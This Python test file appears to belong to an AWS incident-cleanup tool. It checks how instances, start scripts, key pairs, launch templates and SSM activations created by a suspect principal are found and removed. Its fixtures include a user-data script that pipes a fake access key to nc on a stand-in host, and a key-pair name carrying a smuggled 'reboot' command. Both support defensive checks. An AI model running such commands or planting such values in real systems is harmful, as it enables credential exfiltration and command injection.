from __future__ import annotations

import hashlib
from typing import Any

from connectors.aws.hunt.areas import compute

IMAGE = "ami-12c6146b"
SCRIPT = "#!/bin/sh\necho '<b>hush</b> AKIAEXAMPLE' | nc 203.0.113.9 4444\n"


def launch(ec2: Any, **more: Any) -> str:
    return str(ec2.run_instances(ImageId=IMAGE, MinCount=1, MaxCount=1, **more)["Instances"][0]["InstanceId"])


def test_an_instance_that_the_subject_launched_is_stopped(estate: Any) -> None:
    name = launch(estate.plant("ec2", "eu-west-1"))
    launch(estate.client("ec2", "eu-west-1"))
    finding = estate.removed(compute, "instance")
    assert (finding.by_subject, finding.detail["resource"]) == (True, name)


def test_a_start_script_is_told_by_its_digest_and_never_by_its_words(estate: Any) -> None:
    launch(estate.plant("ec2"), UserData=SCRIPT)
    found = estate.found(compute)
    (script,) = [one for one in found if one.kind == "user-data"]
    assert script.detail["sha256"] == hashlib.sha256(SCRIPT.encode()).hexdigest()
    assert script.detail["bytes"] == len(SCRIPT)
    assert "hush" not in repr(found)
    estate.run(script.remove)  # moto keeps the text b'' in its place
    assert [one.detail["bytes"] for one in estate.found(compute, kind="user-data")] in ([], [3])


def test_a_start_script_of_an_instance_that_the_subject_only_changed_is_told(estate: Any) -> None:
    name = launch(estate.client("ec2"), UserData=SCRIPT)
    assert estate.found(compute) == []
    estate.plant("ec2").create_tags(Resources=[name], Tags=[{"Key": "a", "Value": "b"}])
    assert [one.kind for one in estate.found(compute)] == ["user-data"]


def test_a_key_pair_of_the_subjects_is_deleted_and_a_hostile_name_stays_text(estate: Any) -> None:
    hostile = "x'; reboot; echo '{{ 7*7 }}<b>"
    estate.plant("ec2").create_key_pair(KeyName=hostile)
    estate.client("ec2").create_key_pair(KeyName="ours")
    finding = estate.removed(compute, "key-pair")
    assert hostile in finding.title
    assert [one["KeyName"] for one in estate.client("ec2").describe_key_pairs()["KeyPairs"]] == ["ours"]


def test_a_launch_template_of_the_subjects_is_deleted(estate: Any) -> None:
    estate.plant("ec2").create_launch_template(LaunchTemplateName="base", LaunchTemplateData={"ImageId": IMAGE})
    assert estate.removed(compute, "launch-template").title.endswith(": base")


def test_every_activation_is_told_and_the_subjects_first(estate: Any) -> None:
    estate.plant("ssm").create_activation(IamRole="service-role")
    estate.client("ssm").create_activation(IamRole="service-role")
    found = estate.found(compute, kind="activation")
    assert [(one.severity, one.by_subject) for one in found] == [("high", True), ("medium", None)]
    for one in found:
        estate.run(one.remove)
    assert estate.found(compute, kind="activation") == []


def test_a_machine_from_outside_is_tied_to_the_subject_by_its_activation(estate: Any) -> None:
    activation = estate.plant("ssm").create_activation(IamRole="service-role")["ActivationId"]
    for one in (activation, "another"):
        estate.running.ask(
            "seed", of="managed-machine", account=estate.home, region="us-east-1", activation=one, computer="kvm-1"
        )
    found = estate.found(compute, kind="managed-machine")
    assert [(one.severity, one.by_subject) for one in found] == [("high", True), ("medium", None)]
    estate.run(found[0].remove)
    assert estate.found(compute, kind="managed-machine") == found[1:]
